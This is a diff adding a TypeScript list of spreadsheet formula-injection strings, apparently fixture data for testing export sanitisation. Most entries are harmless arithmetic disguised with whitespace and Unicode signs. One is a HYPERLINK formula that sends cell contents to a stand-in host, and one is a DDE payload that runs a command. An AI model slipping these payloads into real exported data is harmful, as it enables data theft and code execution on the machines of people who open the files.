@@ -1,0 +1,23 @@
+/** Texts that a spreadsheet would run, or might once they are saved and opened by another one. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u3000=1+1',
+  '\u00a0-3',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '\u2212 3',
+  'a;=1+1',
+  'a\t=1+1',
+  'a\n=1+1',
+  '=HYPERLINK("http://x.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+];
